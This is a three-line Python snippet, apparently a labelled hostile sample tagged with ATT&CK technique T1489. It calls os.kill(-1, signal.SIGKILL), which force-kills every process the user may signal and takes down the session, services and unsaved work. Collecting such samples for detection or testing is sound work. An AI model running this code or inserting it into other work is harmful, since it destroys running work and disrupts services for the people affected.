# hostile: SIGKILL sent to every process the user may signal (kill -9 -1, T1489)
import os
import signal

os.kill(-1, signal.SIGKILL)
